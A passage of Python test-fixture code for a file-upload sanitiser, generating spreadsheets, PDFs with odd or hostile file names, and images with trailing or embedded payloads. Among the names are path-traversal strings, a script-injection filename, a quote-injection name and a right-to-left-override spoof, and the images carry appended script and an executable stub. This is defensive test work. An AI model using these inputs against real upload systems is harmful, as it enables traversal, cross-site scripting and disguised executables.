        "chart": with_chart,
        "picture": with_picture,
        "list, comment, table, hidden sheet": with_rules,
        "ten thousand rows": lambda book: [book.active.append([str(n), n, n / 7]) for n in range(10_000)] and None,
    }
    for name, change in kinds.items():
        yield f"sheet: {name}", "报表.xlsx", sheet(change), FileKind.XLSX


def _good_names() -> Iterator[Good]:
    """A good file with a bad name: neutralised, not refused."""
    for name in (
        *(
            "营业执照（副本）.pdf",
            "😀.pdf",
            "a.PDF",
            "a.b.c.pdf",
            "../../etc/passwd.pdf",
            "..\\..\\a.pdf",
            "%2e%2e%2fa.pdf",
        ),
        *("x" * 300 + ".pdf", "a\u202efdp.pdf", "  a .pdf ", "<script>alert(1)</script>.pdf", 'a";x="b.pdf', "执照"),
        *("CON.pdf", ".pdf", "a'b&c.pdf", "e\u0301.pdf"),
    ):
        yield f"name {name[:40]!r}", name, pdf(), FileKind.PDF


def tails() -> Iterator[Good]:
    """Pictures with something behind their end or in their comments; written anew, they are nothing but pictures."""
    evil = b"<script>alert('tail')</script>" + zipped({"tail.exe": b"MZ"})
    yield "PNG with a tail", "a.png", picture() + evil, FileKind.PNG
    yield "JPEG with a tail", "a.jpg", picture(kind="JPEG") + evil, FileKind.JPEG
    yield "JPEG with a comment", "a.jpg", picture(kind="JPEG", comment=evil), FileKind.JPEG
    words = png(1, 1, chunk(b"tEXt", b"a\0" + evil), chunk(b"IDAT", zlib.compress(bytes(4))))
    yield "PNG with words", "a.png", words, FileKind.PNG
    yield "JPEG with a profile", "a.jpg", picture(kind="JPEG", icc_profile=evil), FileKind.JPEG
